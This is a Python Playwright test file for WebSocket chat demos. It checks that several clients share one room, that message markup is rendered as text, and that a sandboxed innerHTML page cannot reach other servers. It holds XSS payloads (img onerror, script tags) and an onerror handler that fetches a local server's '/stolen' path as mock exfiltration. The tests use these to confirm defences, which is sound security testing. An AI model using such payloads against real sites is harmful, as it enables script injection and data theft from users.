"""The chat pages of demos 3 and 4 in headless Chromium, in one room with a Python widget client."""

from __future__ import annotations

from pathlib import Path

import pytest
from playwright.async_api import expect
from websockets.asyncio.client import connect
from websockets.exceptions import InvalidStatus

from ws_course import start
from ws_course.widgets import ChatClient

#: The module's Chromium (the async_browser fixture) lives on one event loop for all its tests.
pytestmark = pytest.mark.asyncio(loop_scope="module")

ARTICLE = Path(__file__).parent.parent / "static" / "article"

#: Markup that runs script if a page puts it into innerHTML; it records that it ran.
XSS = '<img src=x onerror="window.pwned = \'img\'"><script>window.pwned = "script"</script>'


async def open_page(browser, url):
    page = await browser.new_page()
    await page.goto(url)
    await expect(page.locator("#state")).to_have_text("open")
    return page


async def say(page, text, *, enter=False):
    await page.fill("#sendTxt", text)
    if enter:
        await page.press("#sendTxt", "Enter")
    else:
        await page.click("#sendBtn")


async def test_two_pages_and_a_widget_client_see_the_same_lines_in_the_same_order(async_browser):
    with start("chat") as server:
        widget = ChatClient(server.ws_url)  # user1
        await widget.opened()
        await widget.next_message()
        alice = await open_page(async_browser, server.page_url)  # user2
        await expect(alice.locator("#messages div")).to_have_text(["user2 comes in"])
        bob = await open_page(async_browser, server.page_url)  # user3

        await say(alice, "hello from alice", enter=True)
        await expect(bob.locator("#messages div").last).to_have_text("hello from alice")
        await say(bob, "hi alice")
        # Bob's line must be in the room before the widget speaks: a click returns
        # before the page has sent anything.
        await expect(bob.locator("#messages div").last).to_have_text("hi alice")
        widget.send("hello from python")
        conversation = ["user3 comes in", "hello from alice", "hi alice", "hello from python"]
        await expect(alice.locator("#messages div")).to_have_text(["user2 comes in", *conversation])
        await expect(bob.locator("#messages div")).to_have_text(conversation)
        assert [await widget.next_message() for _ in range(5)] == ["user2 comes in", *conversation]
        assert await alice.input_value("#sendTxt") == ""  # sending clears the box

        await bob.close()
        await expect(alice.locator("#messages div").last).to_have_text("user3 left")
        assert await widget.next_message() == "user3 left"
        widget.close()
        await widget.closed()
        await expect(alice.locator("#messages div").last).to_have_text("user1 left")
    await expect(alice.locator("#state")).to_have_text("closed (code 1001)")


async def test_markup_is_shown_as_text_and_runs_nothing_in_our_pages(async_browser):
    for demo in ("chat", "json_chat"):
        with start(demo) as server:
            sender = await open_page(async_browser, server.page_url)
            receiver = await open_page(async_browser, server.page_url)
            await say(sender, XSS)
            await expect(receiver.locator("#messages div").last).to_contain_text(XSS)
            for page in (sender, receiver):
                assert await page.locator("#messages img, #messages script").count() == 0
                assert await page.evaluate("window.pwned") is None
                await page.close()


async def test_the_articles_innerHTML_page_would_run_it(async_browser, tmp_path):
    """Why our pages use textContent: the article's page, same server, same message, runs the script."""
    with start("chat", allow_origins=["null"]) as server:  # a page opened from disk sends Origin: null
        article = await open_article_page(async_browser, tmp_path, "demo3-chat.html", server.ws_url)
        ours = await open_page(async_browser, server.page_url)
        await say(ours, XSS)
        await expect(ours.locator("#messages div").last).to_have_text(XSS)
        await expect(article.locator("body > div img")).to_have_count(1)
        await article.wait_for_function("window.pwned === 'img'")  # the onerror handler ran
        assert await ours.evaluate("window.pwned") is None


async def test_json_chat_colours_enter_blue_leave_red_and_messages_plain(async_browser):
    with start("json_chat") as server:
        watcher = await open_page(async_browser, server.page_url)  # user1
        visitor = await open_page(async_browser, server.page_url)  # user2
        await say(visitor, "colours?")
        await visitor.close()
        lines = watcher.locator("#messages div")
        await expect(lines).to_have_text(["user1 comes in", "user2 comes in", "user2 says: colours?", "user2 left"])
        await expect(lines.nth(1)).to_have_css("color", "rgb(0, 0, 255)")
        await expect(lines.nth(2)).to_have_css("color", "rgb(0, 0, 0)")
        await expect(lines.nth(3)).to_have_css("color", "rgb(255, 0, 0)")


async def open_article_page(browser, folder, name, ws_url):
    source = (ARTICLE / name).read_text(encoding="utf-8")
    copy = folder / name
    copy.write_text(source.replace("ws://xxx.xxx.xxx.xxx:8001/", ws_url), encoding="utf-8")
    page = await browser.new_page()
    await page.goto(copy.as_uri())
    return page


async def test_the_articles_own_chat_pages_from_disk_work_with_our_servers(async_browser, tmp_path):
    """With ``allow_origins=["null"]`` (``--allow-origin null``): a page opened from disk sends ``Origin: null``."""
    for demo, name, first_line in (
        ("chat", "demo3-chat.html", "user1 comes in"),
        ("json_chat", "demo4-json-chat.html", "user1 comes in"),
    ):
        with start(demo, allow_origins=["null"]) as server:
            page = await open_article_page(async_browser, tmp_path, name, server.ws_url)
            await expect(page.locator("body > div").first).to_have_text(first_line)
            await page.fill("#sendTxt", "from the article's page")
            await page.click("#sendBtn")
            expected = "from the article's page" if demo == "chat" else "user1 says: from the article's page"
            await expect(page.locator("body > div").last).to_have_text(expected)
            if demo == "json_chat":
                await expect(page.locator("body > div").first).to_have_css("color", "rgb(0, 0, 255)")
            await page.close()


async def test_the_articles_page_runs_the_payload_in_a_sandbox_that_reaches_nothing_else(async_browser):
    """/article.html: the article's innerHTML page, sandboxed: markup runs, but can reach only its server."""
    import http.server
    import threading

    visits = []

    class Elsewhere(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            visits.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *args):
            pass

    elsewhere = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Elsewhere)
    threading.Thread(target=elsewhere.serve_forever, daemon=True).start()
    try:
        for demo, article_name in [("chat", "demo3-chat.html"), ("json_chat", "demo4-json-chat.html")]:
            with start(demo) as server:
                page = await async_browser.new_page()
                await page.goto(server.page_url + "article.html")
                assert await page.locator("h1").text_content() == "Chat Room"
                member = ChatClient(server.ws_url, json=demo == "json_chat")
                await member.opened()
                # The article's page is in the room once it hears the newcomer after it.
                await expect(page.locator("body > div")).to_have_text(["user1 comes in", "user2 comes in"])
                # The stolen request's fate goes into the title: the test waits for it, not for a while.
                steal = (f"fetch('http://127.0.0.1:{elsewhere.server_port}/stolen')"
                         ".then(() => document.title = 'reached', () => document.title = 'blocked')")
                member.send(f"<img src=x onerror=\"document.querySelector('h1').textContent='ran'; {steal}\">")
                await expect(page.locator("h1")).to_have_text("ran")  # the markup ran...
                await expect(page).to_have_title("blocked")  # ...its request failed...
                assert visits == []  # ...without reaching another server
                # The page itself is the article's, with only its address filled in: its
                # server's, with the server's page key, the one way Origin: null gets in.
                served = await (await page.request.get(server.page_url + "article.html")).text()
                original = (ARTICLE / article_name).read_text()
                key = server.guard.page_key
                assert served == original.replace(
                    '"ws://xxx.xxx.xxx.xxx:8001/"', f'new URL(".", location.href).href.replace(/^http/, "ws") + "?page={key}"'
                )
                # Without the key, or with another, Origin: null is refused.
                for address in (server.ws_url, server.ws_url + "?page=" + key[::-1]):
                    with pytest.raises(InvalidStatus) as refused:
                        await connect(address, proxy=None, origin="null")
                    assert refused.value.response.status_code == 403
                member.close()
                await member.closed()
                await page.close()
    finally:
        elsewhere.shutdown()
        elsewhere.server_close()
